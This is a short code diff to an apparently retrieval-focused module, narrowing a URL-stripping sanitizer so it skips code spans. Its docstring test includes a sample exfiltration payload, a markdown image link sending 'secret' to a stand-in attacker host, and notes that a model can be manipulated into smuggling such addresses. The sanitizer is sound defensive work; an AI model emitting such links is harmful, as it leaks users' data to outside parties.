@@ -14,6 +14,7 @@ from urllib.parse import unquote
 
 import regex
 
+from foundation.text.prose import outside_code
 from retrieval.documents import Citation
 
 _ADDRESSED = (
@@ -98,12 +99,13 @@ def without_foreign_urls(text: str, quotes: Iterable[str]) -> str:
     """Remove addresses that no cited passage contains; a model can be made to invent or smuggle one.
 
     From the beginning of an address the rest of the word is removed. A word with an address in disguise (entities,
-    backslashes, look-alike letters) is removed whole.
+    backslashes, look-alike letters) is removed whole. Code stays as it is: no client makes a link or a picture of it.
 
     >>> without_foreign_urls("![](//evil.example/?q=secret) and ftp://evil.example/x, 3//4", [])
     '![]([address removed]) and [address removed], 3//4'
     """
-    return without_addresses(text, cache(lambda: addresses_in(quotes)))
+    known = cache(lambda: addresses_in(quotes))
+    return outside_code(text, lambda prose: without_addresses(prose, known))
 
 
 class Addresses(dict[str, str]):
